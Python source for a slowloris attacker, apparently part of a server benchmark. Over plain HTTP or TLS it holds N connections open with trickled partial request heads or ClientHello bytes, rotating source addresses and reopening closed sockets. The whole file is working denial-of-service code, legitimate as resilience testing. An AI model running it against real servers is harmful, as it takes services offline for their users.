"""
The slowloris attacker of bench/slowloris.py: keeps N connections to a
server open by never finishing what it starts on them, and opens a new one
for each the server closes, as the real slowloris does.

    /usr/bin/python3 bench/slowattack.py MODE HOST PORT N SOURCES RATE TRICKLE SNI

MODE      http      a partial request head on a plain-HTTP listener, then one
                    more header line every TRICKLE seconds (never the blank line)
          tls       the first half of a real TLS ClientHello, then one more byte
                    of it every TRICKLE seconds: the handshake never completes
          tls-head  a complete TLS handshake, then a partial request head and
                    one more header line every TRICKLE seconds
SOURCES   comma-separated source addresses; connection i comes from
          SOURCES[i % len(SOURCES)]
RATE      at most this many connections opened per second (the first N too)

One thread, non-blocking sockets and epoll. Prints a JSON line every second
({"t", "open", "connecting", "handshaking", "opened", "closed", "answered",
"connect_errors"}; the counts after "handshaking" are totals since the start),
and when its standard input closes or it gets SIGTERM, closes every socket,
prints {"done": true, ...} and exits.
"""

import errno
import heapq
import json
import resource
import selectors
import signal
import socket
import ssl
import sys
import time
from collections import deque

CONNECTING, HANDSHAKING, OPEN = "connecting", "handshaking", "open"
RETRY_S = 0.5  # a connect that failed is tried again after this long
BIND_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)


def client_hello(sni):
    """The bytes of a real ClientHello for sni, as this Python's OpenSSL sends it."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


class Conn:
    __slots__ = ("idx", "sock", "state", "gen", "sent")

    def __init__(self, idx):
        self.idx, self.sock, self.state, self.gen, self.sent = idx, None, None, 0, 0


class Attack:
    def __init__(self, mode, host, port, n, sources, rate, trickle, sni):
        self.mode, self.addr, self.n = mode, (host, port), n
        self.sources, self.rate, self.trickle = sources, rate, trickle
        self.sel = selectors.EpollSelector()
        self.conns = [Conn(i) for i in range(n)]
        self.todo = deque(range(n))  # connections to open, in order
        self.retry = []              # heap of (when, idx): failed connects
        self.timers = []             # heap of (when, idx, gen): next trickle
        self.stop = False
        self.counts = {"opened": 0, "closed": 0, "answered": 0, "connect_errors": 0}
        self.head = b"GET /small HTTP/1.1\r\nHost: %s\r\nUser-Agent: slowattack\r\n" % (
            sni.encode())
        self.hello = client_hello(sni) if mode == "tls" else b""
        self.sni = sni
        if mode == "tls-head":
            self.ctx = ssl.create_default_context()
            self.ctx.check_hostname = False
            self.ctx.verify_mode = ssl.CERT_NONE

    # ---- opening and closing ---------------------------------------------

    def open(self, c):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.setsockopt(socket.IPPROTO_IP, BIND_NO_PORT, 1)
            s.bind((self.sources[c.idx % len(self.sources)], 0))
            err = s.connect_ex(self.addr)
        except OSError as e:
            err = e.errno
        if err not in (0, errno.EINPROGRESS):
            s.close()
            self.counts["connect_errors"] += 1
            heapq.heappush(self.retry, (time.monotonic() + RETRY_S, c.idx))
            return
        c.sock, c.state, c.sent = s, CONNECTING, 0
        c.gen += 1
        self.counts["opened"] += 1
        self.sel.register(s, selectors.EVENT_WRITE, c)

    def close(self, c, by_server=True, answered=False):
        if c.sock is None:
            return
        try:
            self.sel.unregister(c.sock)
        except (KeyError, ValueError):
            pass
        c.sock.close()
        c.sock, c.state = None, None
        c.gen += 1
        if by_server:
            self.counts["closed"] += 1
            if answered:
                self.counts["answered"] += 1
            self.todo.append(c.idx)

    # ---- what each connection sends --------------------------------------

    def started(self, c):
        """The TCP (and for tls-head the TLS) connection is up: send the
        first part, then trickle."""
        c.state = OPEN
        first = self.hello[:len(self.hello) // 2] if self.mode == "tls" else self.head
        if self.mode == "tls":
            c.sent = len(first)
        if not self.send(c, first):
            return
        self.sel.modify(c.sock, selectors.EVENT_READ, c)
        heapq.heappush(self.timers, (time.monotonic() + self.trickle, c.idx, c.gen))

    def send(self, c, data):
        try:
            c.sock.send(data)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            pass  # a few bytes more or less do not matter to a slowloris
        except OSError:
            self.close(c)
            return False
        return True

    def drip(self, c):
        if self.mode == "tls":
            if c.sent >= len(self.hello) - 1:  # never the last byte
                return
            data = self.hello[c.sent:c.sent + 1]
            c.sent += 1
        else:
            c.sent += 1
            data = b"X-Slow-%d: %d\r\n" % (c.sent, c.sent)
        if self.send(c, data):
            heapq.heappush(self.timers, (time.monotonic() + self.trickle, c.idx, c.gen))

    # ---- events ----------------------------------------------------------

    def handshake(self, c):
        try:
            c.sock.do_handshake()
        except ssl.SSLWantReadError:
            self.sel.modify(c.sock, selectors.EVENT_READ, c)
            return
        except ssl.SSLWantWriteError:
            self.sel.modify(c.sock, selectors.EVENT_WRITE, c)
            return
        except (OSError, ValueError):
            self.close(c)
            return
        self.started(c)

    def connected(self, c):
        err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if err != 0:
            self.close(c, by_server=False)
            self.counts["connect_errors"] += 1
            heapq.heappush(self.retry, (time.monotonic() + RETRY_S, c.idx))
            return
        if self.mode != "tls-head":
            self.started(c)
            return
        self.sel.unregister(c.sock)
        c.sock = self.ctx.wrap_socket(c.sock, server_hostname=self.sni,
                                      do_handshake_on_connect=False)
        c.state = HANDSHAKING
        self.sel.register(c.sock, selectors.EVENT_WRITE, c)
        self.handshake(c)

    def readable(self, c):
        """The server sent something: a 408, an alert, a session ticket, or EOF."""
        try:
            data = c.sock.recv(4096)
        except (ssl.SSLWantReadError, BlockingIOError):
            return  # a TLS 1.3 session ticket: nothing for the application
        except (OSError, ValueError):
            self.close(c)
            return
        self.close(c, answered=bool(data))

    def event(self, c, mask):
        if c.state == CONNECTING:
            self.connected(c)
        elif c.state == HANDSHAKING:
            self.handshake(c)
        elif c.state == OPEN and mask & selectors.EVENT_READ:
            self.readable(c)

    # ---- the loop ----------------------------------------------------------

    def stats(self, t):
        states = {CONNECTING: 0, HANDSHAKING: 0, OPEN: 0, None: 0}
        for c in self.conns:
            states[c.state] += 1
        line = dict(t=round(t, 3), open=states[OPEN], connecting=states[CONNECTING],
                    handshaking=states[HANDSHAKING], **self.counts)
        print(json.dumps(line), flush=True)

    def run(self):
        self.sel.register(sys.stdin, selectors.EVENT_READ, None)
        t0 = last = next_stat = time.monotonic()
        budget = 0.0
        while not self.stop:
            now = time.monotonic()
            budget = min(budget + (now - last) * self.rate, max(self.rate / 10, 1))
            last = now
            while self.retry and self.retry[0][0] <= now:
                self.todo.append(heapq.heappop(self.retry)[1])
            while self.todo and budget >= 1:
                budget -= 1
                self.open(self.conns[self.todo.popleft()])
            while self.timers and self.timers[0][0] <= now:
                _, idx, gen = heapq.heappop(self.timers)
                c = self.conns[idx]
                if c.gen == gen and c.state == OPEN:
                    self.drip(c)
            if now >= next_stat:
                self.stats(now - t0)
                next_stat += 1.0
            for key, mask in self.sel.select(timeout=0.005 if self.todo else 0.05):
                if key.data is None:
                    if not sys.stdin.buffer.raw.read(4096):
                        self.stop = True
                    continue
                if key.data.sock is not None:
                    self.event(key.data, mask)
        for c in self.conns:
            self.close(c, by_server=False)
        print(json.dumps(dict(done=True, **self.counts)), flush=True)


def main():
    mode, host, port, n, sources, rate, trickle, sni = sys.argv[1:9]
    if mode not in ("http", "tls", "tls-head"):
        sys.exit("slowattack.py: MODE must be http, tls or tls-head")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if hard < int(n) + 100:
        sys.exit("slowattack.py: the open-file limit (%d) is too low for %s connections" % (
            hard, n))
    a = Attack(mode, host, int(port), int(n), sources.split(","), float(rate),
               float(trickle), sni)

    def on_term(*_):
        a.stop = True
    signal.signal(signal.SIGTERM, on_term)
    a.run()


if __name__ == "__main__":
    main()
